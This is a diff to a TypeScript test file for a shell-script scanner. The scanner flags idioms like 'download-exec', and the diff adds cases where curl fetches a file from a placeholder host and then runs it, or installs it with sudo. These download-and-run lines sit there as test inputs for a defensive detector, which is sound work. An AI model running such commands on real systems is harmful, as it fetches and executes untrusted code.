@@ -25,6 +25,8 @@ test('shell: a downloaded archive that is unpacked, then a different file made e
   const idioms = (s: string) => scanShell(s, 'x.sh').hits.map((h) => h.idiom);
   assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool.tar.gz -o tool.tar.gz\ntar -xzf tool.tar.gz\nchmod +x bin/tool'), []);
   assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o tool\necho done\nchmod 755 tool'), ['download-exec']);
+  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o /tmp/tool\nif true; then /tmp/tool --x; fi'), ['download-exec']);
+  assert.deepEqual(idioms('curl -o ./b.dmg https://dl.example.invalid/b.dmg\nhdiutil attach -nobrowse ./b.dmg\nsudo installer -pkg /tmp/b.dmg -target /'), [], 'the download as an argument of another command is data');
 });
 
 test('install: machine identity without an exfiltration endpoint is not install-exfiltration', async () => {
